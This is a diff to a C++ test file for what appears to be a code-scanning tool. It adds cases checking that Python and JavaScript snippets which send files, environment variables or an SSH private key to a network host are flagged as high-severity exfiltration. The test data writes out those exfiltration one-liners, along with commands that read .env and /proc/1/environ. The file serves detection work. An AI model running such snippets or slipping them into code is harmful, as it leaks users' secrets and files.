@@ -459,6 +459,38 @@ TEST_CASE("attack signatures: ordinary risky code is not one") {
     }
 }
 
+TEST_CASE("T005: file contents or the environment sent over the network, in the payload, not the address") {
+    const std::pair<Language, const char*> sent[] = {
+        {Py, "import requests\nrequests.post('https://x.invalid/u', data=open('/workspace/secret.txt').read())"},
+        {Py, "import httpx\nbody = open('data.bin', 'rb').read()\nhttpx.put('https://x.invalid', content=body)"},
+        {Py, "import socket\ns = socket.create_connection(('h', 9))\ns.sendall(open('/workspace/db').read())"},
+        {Py, "import os, requests\nrequests.post('https://x.invalid', json={'path': os.environ['PATH']})"},
+        {Js, "const fs = require('fs');\nfetch('https://x.invalid', { method: 'POST', body: fs.readFileSync('/workspace/d') });"},
+        {Js, "const axios = require('axios'), fs = require('fs');\naxios.post('https://x.invalid', fs.readFileSync('r.csv'));"},
+    };
+    for (const auto& [lang, code] : sent) {
+        auto fs = run(lang, code);
+        INFO("code: " << code << "\nfindings: " << rules_of(fs));
+        const auto f = std::find_if(fs.begin(), fs.end(), [](const Finding& x) { return x.rule == "exfil.data"; });
+        REQUIRE(f != fs.end());
+        CHECK(f->threat == "T005");
+        CHECK(f->severity == Severity::High);
+    }
+    // An address read from a file, or a payload the program computed, is
+    // ordinary network use (py.network / js.network), not exfiltration.
+    const std::pair<Language, const char*> not_sent[] = {
+        {Py, "import requests\nrequests.get(open('url.txt').read().strip())"},
+        {Py, "import requests\nresults = {'n': 3}\nrequests.post('https://x.invalid', json=results)"},
+        {Js, "const fs = require('fs');\nfetch(fs.readFileSync('url.txt', 'utf8'));"},
+        {Js, "const total = 3;\nfetch('https://x.invalid', { method: 'POST', body: JSON.stringify({ total }) });"},
+    };
+    for (const auto& [lang, code] : not_sent) {
+        auto fs = run(lang, code);
+        INFO("code: " << code << "\nfindings: " << rules_of(fs));
+        CHECK(std::none_of(fs.begin(), fs.end(), [](const Finding& x) { return x.rule == "exfil.data"; }));
+    }
+}
+
 TEST_CASE("T002 python: unsafe deserialization") {
     struct DeserCase {
         const char* code;
@@ -644,6 +676,7 @@ TEST_CASE("every rule's severity is pinned") {
         {Sh, "cat .env", "cred.dotenv", Severity::High},
         {Sh, "cat /proc/1/environ", "cred.proc-environ", Severity::High},
         {Py, "import requests\nrequests.post('http://x', data=open('/home/u/.ssh/id_rsa').read())", "exfil.credentials", Severity::High},
+        {Py, "import requests\nrequests.post('http://x', data=open('/workspace/out.csv').read())", "exfil.data", Severity::High},
     };
     std::set<std::string> pinned;
     for (const auto& p : pins) {
